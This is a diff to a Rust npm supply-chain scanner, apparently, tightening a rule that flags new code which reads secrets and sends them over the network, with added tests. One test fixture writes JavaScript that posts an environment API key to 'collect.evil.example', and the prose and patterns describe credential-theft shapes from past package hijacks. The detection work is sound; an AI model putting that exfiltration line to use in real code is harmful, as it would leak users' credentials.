@@ -23,6 +23,11 @@ Both in the same new file (or both in install-time code) make a critical finding
 
 **Why it matters.** This is what a hijacked-account release does: eslint-scope (postinstall reads `~/.npmrc`, sends it), ctx (env → HTTP), xrpl (seeds → HTTP), and DNS-tunnelled variants. Each half alone is common in benign code; together and *new*, they are the attack. Code that already did both in the previous version does not fire.
 
+**Runtime code is held to more.** Outside install-time code, a shell is not a sink, an
+environment read must name a credential-like variable (or serialise the whole environment), and when
+the previous version already read secrets and used the network elsewhere, the new code must
+also name a host whose site (`example.com` of `api.example.com`) the package never mentioned.
+
 **Severity.** Critical. A major release lowers it to high unless the code runs at install time.
 
 `scan` (no history) applies it to install-time code, and to runtime files that serialise or enumerate the whole environment and use the network in the same file.
@@ -39,14 +44,39 @@ const SINKS: [Capability; 4] = [
     Capability::ChildProcess,
 ];
 
-fn is_source(cap: Capability, o: &Occurrence) -> bool {
+/// A secret source. Install-time code counts any read of an unknown variable (`[computed]`,
+/// destructured) and any whole-environment use as one; runtime code needs a credential-like
+/// name, a serialised environment or a credential file, because config loaders read computed
+/// variables and enumerate the environment all the time.
+fn is_source(cap: Capability, o: &Occurrence, install_time: bool) -> bool {
     match cap {
         Capability::EnvRead => match o.detail.as_deref() {
-            None | Some("[computed]") | Some("destructured") => true,
+            None | Some("[computed]") | Some("destructured") => install_time,
             Some(name) => is_secret_env_name(name),
         },
-        Capability::EnvDump | Capability::SensitiveRead => true,
+        // Enumerating (`Object.keys(process.env)` to pick `VENDOR_*` settings), spreading into a
+        // child's environment or passing it on is everyday runtime code; serialising the whole
+        // environment is what a payload needs.
+        Capability::EnvDump => install_time || o.detail.as_deref() == Some("serialize"),
+        Capability::SensitiveRead => true,
         _ => false,
+    }
+}
+
+/// Sinks: a shell counts only at install time (a runtime CLI that spawns commands with the
+/// environment is what dotenv and test runners do); network and DNS count everywhere.
+fn is_sink(cap: Capability, install_time: bool) -> bool {
+    install_time || cap != Capability::ChildProcess
+}
+
+/// The registrable part of a host (`clienttelemetry.googleapis.com` → `googleapis.com`), so a new
+/// subdomain of a host the package already talked to is not a new destination.
+fn site(host: &str) -> &str {
+    let host = host.trim_end_matches('.');
+    let mut dots = host.rmatch_indices('.');
+    match (dots.next(), dots.next()) {
+        (Some(_), Some((i, _))) => &host[i + 1..],
+        _ => host,
     }
 }
 
@@ -76,7 +106,7 @@ impl<'a> Unit<'a> {
         let before = (self.sources.len(), self.sinks.len());
         for cap in SOURCES {
             for occ in pick(cap) {
-                if is_source(cap, occ) {
+                if is_source(cap, occ, install_time) {
                     self.sources.push(NewUse {
                         path,
                         occ,
@@ -85,7 +115,7 @@ impl<'a> Unit<'a> {
                 }
             }
         }
-        for cap in SINKS {
+        for cap in SINKS.into_iter().filter(|&c| is_sink(c, install_time)) {
             for occ in pick(cap) {
                 self.sinks.push(NewUse {
                     path,
@@ -133,6 +163,28 @@ impl<'a> Unit<'a> {
 
 pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
     let old_hosts = cx.old_hosts();
+    let old_sites: BTreeSet<&str> = old_hosts.iter().map(|h| site(h)).collect();
+    // Did the previous version already read secrets and reach the network somewhere? Then new
+    // runtime code doing both is only the takeover shape when it names a destination the
+    // package never mentioned (the @solana/web3.js and xrpl injections did; a vendor SDK adding
+    // a telemetry module for its own backend does not).
+    let old_had_both = {
+        let mut source = false;
+        let mut sink = false;
+        for (_, js) in cx.old.scripts() {
+            source |= SOURCES
+                .iter()
+                .any(|&c| js.uses(c).iter().any(|o| is_source(c, o, false)));
+            sink |= [
+                Capability::Network,
+                Capability::Dns,
+                Capability::DnsFromData,
+            ]
+            .iter()
+            .any(|&c| !js.uses(c).is_empty());
+        }
+        source && sink
+    };
     let mut install = Unit::default();
     let mut per_file = Vec::new();
     for (path, f) in &cx.new.files {
@@ -158,6 +210,9 @@ pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
         .map(|u| (u, true))
         .chain(per_file.into_iter().map(|u| (u, false)));
     for (unit, install_time) in units {
+        if !install_time && old_had_both && unit.hosts.iter().all(|h| old_sites.contains(site(h))) {
+            continue;
+        }
         let (src, sink) = unit.describe();
         let new_hosts: Vec<&str> = unit
             .hosts
@@ -302,6 +357,60 @@ module.exports = { get };
         assert!(hit.message.contains("NPM_TOKEN"), "{}", hit.message);
         // Single-capability rules stay quiet: both were already there.
         assert!(find(&f, "new-network").is_none() && find(&f, "new-env-read").is_none());
+    }
+
+    fn two_versions(old: &[(&str, &str)], new: &[(&str, &str)]) -> Vec<Finding> {
+        let om = manifest("2.0.0", "");
+        let nm = manifest("2.0.1", "");
+        let mut o: Vec<(&str, &str)> = vec![("package.json", &om)];
+        o.extend_from_slice(old);
+        let mut n: Vec<(&str, &str)> = vec![("package.json", &nm)];
+        n.extend_from_slice(new);
+        diff_versions("2.0.0", &o, "2.0.1", &n)
+    }
+
+    #[test]
+    fn runtime_cli_spawning_with_the_environment_is_quiet() {
+        let cli = "const { spawn } = require('child_process');\nspawn(process.argv[2], { env: { ...process.env, FOO: '1' } });\n";
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[("index.js", "module.exports = 1;\n"), ("cli.js", cli)],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
+    const VENDOR_OLD: &str = "const key = process.env.VENDOR_API_KEY;\nfetch('https://api.vendor.example/v1', { headers: { k: key } });\n";
+
+    #[test]
+    fn vendor_telemetry_to_its_own_site_is_quiet() {
+        let tele = "const key = process.env.VENDOR_API_KEY;\nfetch('https://telemetry.vendor.example/t', { method: 'POST', body: key });\n";
+        let f = two_versions(
+            &[("index.js", VENDOR_OLD)],
+            &[("index.js", VENDOR_OLD), ("telemetry.js", tele)],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
+    #[test]
+    fn same_shape_to_a_new_site_fires() {
+        let tele = "const key = process.env.VENDOR_API_KEY;\nfetch('https://collect.evil.example/t', { method: 'POST', body: key });\n";
+        let f = two_versions(
+            &[("index.js", VENDOR_OLD)],
+            &[("index.js", VENDOR_OLD), ("telemetry.js", tele)],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert!(
+            hit.message.contains("collect.evil.example"),
+            "{}",
+            hit.message
+        );
+    }
+
+    #[test]
+    fn sites() {
+        assert_eq!(site("clienttelemetry.googleapis.com"), "googleapis.com");
+        assert_eq!(site("example.com"), "example.com");
+        assert_eq!(site("localhost"), "localhost");
     }
 
     #[test]
